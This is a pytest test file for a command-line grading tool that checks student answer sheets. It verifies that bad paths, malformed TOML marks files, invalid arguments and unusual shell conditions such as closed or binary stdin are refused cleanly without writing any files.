    "no folder of files": ("--gradebook", lambda _: Path("/proc/g.csv"), "/proc/g.csv: "),
    "long name": ("--gradebook", lambda f: f / ("g" * 300), "File name too long"),
    "empty name": ("--gradebook", lambda _: "", None),
    "the answers": ("--gradebook", lambda f: f / "good.csv", "this is what is read"),
    "the answers by a link": ("--gradebook", lambda f: f / "link.csv", "this is what is read"),
    "feedback a file": ("--feedback", lambda f: f / "other.txt", "a file, not a folder"),
    "feedback in a file": ("--feedback", lambda f: f / "other.txt" / "x", "Not a directory"),
    "feedback in no folder": ("--feedback", lambda _: Path("/proc/x/y"), "/proc/x"),
    "feedback a device": ("--feedback", lambda _: Path("/dev/null"), "a file, not a folder"),
    "bundle a folder": ("--bundle", lambda f: f, "a folder, not a file"),
    "bundle a device": ("--bundle", lambda _: Path("/dev/null"), "a device or a pipe"),
    "bundle in a file": ("--bundle", lambda f: f / "good.csv" / "a.zip", "a file, not a folder"),
    "bundle nowhere": ("--bundle", lambda _: Path("/proc/a.zip"), "/proc/a.zip: "),
    "bundle of dots": ("--bundle", lambda _: Path(".."), "a folder, not a file"),
}  # fmt: skip


@pytest.mark.parametrize(("option", "path", "said"), OUTPUTS.values(), ids=OUTPUTS)
def test_what_cannot_be_written_is_told_and_nothing_is(good: Path, option, path, said) -> None:
    folder = good.parent
    (folder / "folder.csv").mkdir()
    (folder / "other.txt").write_text("keep me")
    (folder / "link.csv").symlink_to(good)
    os.mkfifo(folder / "pipe")
    before = files_in(folder)
    answers = [] if option == "--bundle" else [good]
    if said:
        refused("check", "mazur", *answers, option, path(folder), said=said)
    else:
        run("check", "mazur", *answers, option, path(folder))
    assert before == files_in(folder)
    assert GOOD == good.read_text()
    assert Path("/dev/null").is_char_device()


def test_if_one_file_cannot_be_written_none_is(tmp_path: Path) -> None:
    path = tmp_path / "class.csv"
    path.write_text("student,E_total\nada,0.2984\nzoe,0.2984\n")
    (tmp_path / "out" / "zoe.md").mkdir(parents=True)
    before = files_in(tmp_path)
    refused("check", "mazur", path, "--feedback", tmp_path / "out", "--gradebook",
            tmp_path / "g.csv", said="a folder, not a file")  # fmt: skip
    assert before == files_in(tmp_path)


@pytest.mark.parametrize("option", ["--gradebook", "--feedback"])
def test_nothing_is_written_where_it_would_be_read_as_answers(good: Path, option: str) -> None:
    folder = good.parent
    refused("check", "mazur", folder, option, folder / "x" / "out", said="taken for an answer")
    assert ["good.csv"] == list(files_in(folder))


def test_feedback_does_not_replace_the_answers(tmp_path: Path) -> None:
    path = tmp_path / "ada.md"
    path.write_text("| name | value |\n|---|---|\n| E | 0.2984 |\n")
    refused("check", "mazur", path, "--feedback", tmp_path, said="this is what is read")
    assert "0.2984" in path.read_text()


def test_a_gradebook_does_not_replace_points_or_scenario(good: Path) -> None:
    points, mine = good.with_name("points.toml"), good.with_name("mine.toml")
    points.write_text("default = 1\n")
    mine.write_bytes((ROOT / "scenarios" / "mazur.toml").read_bytes())
    before = files_in(good.parent)
    for path in (points, mine):
        refused("check", mine, good, "--points", points, "--gradebook", path, said="what is read")
    refused("check", mine, "--bundle", mine, said="what is read")
    assert before == files_in(good.parent)


NOTHING = {
    "unknown": "name,value\nx9,1\ny9,2\n",
    "another pass": "name,value,iteration\nE,1,999999999\n",
}


@pytest.mark.parametrize("text", NOTHING.values(), ids=NOTHING)
def test_a_sheet_without_any_answer_is_not_all_right(tmp_path: Path, text: str) -> None:
    path = tmp_path / "a.csv"
    path.write_text(text)
    ran = all_reports(path, tmp_path / "out")
    assert (1, {}) == (ran.code, marks(ran))


def test_a_page_and_the_gradebook_of_one_name(good: Path) -> None:
    out = good.parent / "out"
    refused("check", "mazur", good, "--feedback", out, "--gradebook", out / "good.md", said="name")
    assert not out.exists()


# ---- arguments -------------------------------------------------------------------------

ARGUMENTS = {
    "both from stdin": (("-", "-"), "not both"),
    "no answers": (("mazur",), "name the file with the answers"),
    "empty scenario": (("", "good.csv"), ""),
    "no such scenario": (("mazurr", "good.csv"), "did you mean 'mazur'?"),
    "scenario a folder": ((".", "good.csv"), "a folder, not a scenario file"),
    "scenario the answers": (("good.csv", "good.csv"), "good.csv"),
    "answers empty": (("mazur", ""), ""),
    "both digits": (("mazur", "good.csv", "--decimals", "4", "--significant", "3"), "choose one"),
    "cut": (("mazur", "good.csv", "--cut"), "how many digits"),
    "decimals": (("mazur", "good.csv", "--decimals", "99"), None),
    "decimals negative": (("mazur", "good.csv", "--decimals", "-1"), None),
    "decimals a word": (("mazur", "good.csv", "--decimals", "x"), None),
    "significant": (("mazur", "good.csv", "--significant", "0"), None),
    "iteration negative": (("mazur", "good.csv", "--iteration", "-1"), None),
    "iteration too large": (("mazur", "good.csv", "--iteration", "1" * 30), None),
    "iteration broken": (("mazur", "good.csv", "--iteration", "0.5"), None),
    "ask unknown": (("mazur", "good.csv", "--ask", "w99+"), "no step is called 'w99+'"),
    "ask nothing": (("mazur", "good.csv", "--ask", ""), "no step is called ''"),
    "ask an escape": (("mazur", "good.csv", "--ask", "<b>|"), "no step is called"),
    "ask a late pass": (("mazur", "good.csv", "--ask", "E@99999999999999"), "too late to compute"),
    "ask no pass": (("mazur", "good.csv", "--ask", "E@x"), "E@x"),
    "reading": (("mazur", "good.csv", "--reading", "none"), "none"),
    "unknown option": (("mazur", "good.csv", "--nothing"), None),
    "json and gradescope": (("mazur", "good.csv", "--json", "--gradescope"), "choose one"),
    "json and bundle": (("mazur", "--json", "--bundle", "a.zip"), "choose one"),
    "bundle and answers": (("mazur", "good.csv", "--bundle", "a.zip"), "takes no answers"),
    "bundle and digits": (("mazur", "--bundle", "a.zip", "--decimals", "4"), "no --decimals"),
    "bundle and a question": (("mazur", "--bundle", "a.zip", "--ask", "E"), "no --ask"),
    "bundle of stdin": (("-", "--bundle", "a.zip"), ""),
    "points missing": (("mazur", "good.csv", "--points", "none.toml"), "none.toml"),
    "points a folder": (("mazur", "good.csv", "--points", "."), "directory"),
    "points a device": (("mazur", "good.csv", "--points", "/dev/zero"), "a device, not a file"),
    "three arguments": (("mazur", "good.csv", "good.csv"), None),
}


@pytest.mark.parametrize(("args", "said"), ARGUMENTS.values(), ids=ARGUMENTS)
def test_a_bad_argument_is_told(good: Path, monkeypatch, args, said) -> None:
    monkeypatch.chdir(good.parent)
    ran = run("check", *args, input=GOOD)
    assert 2 == ran.code
    assert said is None or said in ran.line
    assert ["good.csv"] == list(files_in(good.parent))


POINTS = {
    "unknown step": ('each = { "w99+" = 1 }', "w99+"),
    "unknown key": ("worth = 1", "worth"),
    "misspelt key": ("defualt = 1", "did you mean 'default'?"),
    "negative": ("default = -1", "default"),
    "NaN": ("default = nan", "default"),
    "infinite": ("default = inf", "default"),
    "huge": ("default = 1e400", "default"),
    "share above one": ("mistake = 2", "mistake"),
    "text": ('default = "1"', "default"),
    "list": ("each = [1]", "each"),
    "one step twice": ('each = { "w5+" = 1, "w5_new" = 2 }', "the same step"),
    "escape in a name": ('each = { "\\u001b[31m" = 1 }', "each"),
    "lines in a name": ('each = { "a\\nb" = 1 }', "each"),
    "not TOML": ("default", "not valid TOML"),
    "binary": ("\0", "not valid TOML"),
    "deep": ("a = " + "[" * 9_000, "nested too deeply"),
    "deep keys": ("a." * 9_000 + "a = 1", ""),
    "large": ("#" * 30_000, "larger than 20,000 bytes"),
    "long number": ("default = " + "9" * 9_000, ""),
}


@pytest.mark.parametrize(("text", "said"), POINTS.values(), ids=POINTS)
def test_a_bad_marks_file_is_told(good: Path, text: str, said: str) -> None:
    points = good.with_name("points.toml")
    points.write_text(text)
    ran = run("check", "mazur", good, "--points", points, "--gradebook", good.with_name("g.csv"))
    assert 2 == ran.code
    assert said in ran.line
    assert {"good.csv", "points.toml"} == set(files_in(good.parent))


def test_a_marks_file_may_be_no_pipe(good: Path) -> None:
    os.mkfifo(good.with_name("points.toml"))
    refused("check", "mazur", good, "--points", good.with_name("points.toml"), said="a pipe")


LINTED = {
    "unknown step": (("mazur", "--ask", "w99+"), "no step is called"),
    "no such scenario": (("nothing",), "nothing"),
    "both digits": (("mazur", "--decimals", "4", "--significant", "4"), "choose one"),
    "cut": (("mazur", "--cut"), "how many digits"),
    "reading": (("mazur", "--reading", "\x1b[31m"), "reading"),
    "device": (("/dev/null",), "/dev/null"),
    "late pass": (("mazur", "--ask", "E@1000000000"), "too late to compute"),
}


@pytest.mark.parametrize(("args", "said"), LINTED.values(), ids=LINTED)
def test_bad_arguments_of_lint(args, said: str) -> None:
    ran = run("lint", *args)
    assert 2 == ran.code
    assert said in ran.err


# ---- the process -----------------------------------------------------------------------


def shell(command: str, folder: Path, **more: object) -> subprocess.CompletedProcess[bytes]:
    tracer = f'"{sys.executable}" -m tracer'
    return subprocess.run(
        ["bash", "-c", command.replace("TRACER", tracer)], cwd=folder, capture_output=True,
        timeout=HANGS, env={**os.environ, "PYTHONPATH": str(ROOT)}, **more,
    )  # fmt: skip


SHELLS = {
    "closed stdin": ("TRACER check mazur - <&-", 2, b"tracer: -: standard input is closed\n"),
    "empty stdin": ("TRACER check mazur - </dev/null", 2, b"tracer: stdin: empty; "),
    "endless stdin": ("TRACER check mazur - </dev/zero", 2, b"larger than 10 MB"),
    "binary stdin": ("head -c 9999 /dev/urandom | TRACER check mazur -", 2, b"not a text file"),
    "pipe of a shell": ("TRACER check mazur <(cat good.csv)", 0, b""),
    "reader gone": ("TRACER check mazur good.csv --json | head -c 1 >/dev/null", 0, b""),
    "reader gone at once": ("TRACER check mazur good.csv | true", 0, b""),
    "closed stdout": ("TRACER check mazur good.csv >&-", 0, b""),
    "closed stderr": ("TRACER check mazur none.csv 2>&-", 2, b""),
    "all closed": ("TRACER check mazur good.csv <&- >&- 2>&-", 0, b""),
    "little memory": ("ulimit -v 1500000; TRACER check mazur /dev/zero", 2, b"a device"),
    "ASCII locale": ("LC_ALL=C PYTHONUTF8=0 TRACER check mazur good.csv", 0, b""),
    "ASCII locale, name": ("cp good.csv ü.csv; LC_ALL=C TRACER check mazur ü.csv", 0, b""),
    "name of no encoding": ("cp good.csv $'\\xff.csv'; TRACER check mazur $'\\xff.csv'", 0, b""),
    "option as a name": ("cp good.csv ./--json; TRACER check mazur -- --json", 0, b""),
}


@pytest.mark.parametrize(("command", "code", "said"), SHELLS.values(), ids=SHELLS)
def test_in_a_shell(good: Path, command: str, code: int, said: bytes) -> None:
    found = shell(command, good.parent)
    assert code == found.returncode, found
    assert said in found.stderr
    assert b"Traceback" not in found.stderr
    assert b"Exception" not in found.stderr
    assert code == 2 or not found.stderr
    assert len(found.stderr.splitlines()) <= 1
